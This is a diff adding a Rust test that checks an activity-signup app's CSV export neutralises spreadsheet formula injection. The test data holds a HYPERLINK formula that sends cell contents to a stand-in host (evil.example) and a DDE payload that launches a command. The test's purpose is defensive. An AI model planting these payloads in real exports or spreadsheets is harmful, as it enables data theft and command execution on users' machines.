@@ -521,6 +521,29 @@ db_test!(
 );
 
 db_test!(
+    async fn a_formula_in_a_name_comes_out_of_the_export_neutralised(t) {
+        let app = app(&t, Config::default()).await;
+        let v = venue(&t.db).await;
+        let id = create(&t.db, &activity(v, "Buurtborrel", now() + 86400 * 2, Some(10))).await;
+        let evil = r#"=HYPERLINK("http://evil.example/?d="&A2,"Klik")"#;
+        let mut s = signup(evil, Some("evil@example.nl"), 1, "csv-formula-0123456789");
+        s.other_needs = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+        queries::register(&t.db, id, &s, "nl").await.unwrap();
+        let mut b = organiser(&app, &t).await;
+        let csv = b.get(&format!("/beheer/activiteiten/{id}/export")).await;
+        assert_eq!(csv.status, StatusCode::OK);
+        let row = csv.body.split("\r\n").nth(1).unwrap();
+        assert!(
+            row.starts_with(r#""'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik"")",evil@example.nl,"#),
+            "{row}"
+        );
+        assert!(row.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), "{row}");
+        // No field of the export starts a formula.
+        assert!(!csv.body.contains(",=") && !csv.body.contains(",@") && !csv.body.contains("\n="));
+    }
+);
+
+db_test!(
     async fn organisers_see_needs_export_csv_check_people_in_and_cancel_with_mail(t) {
         let sink = MailSink::start();
         let app = app(&t, sink.config()).await;
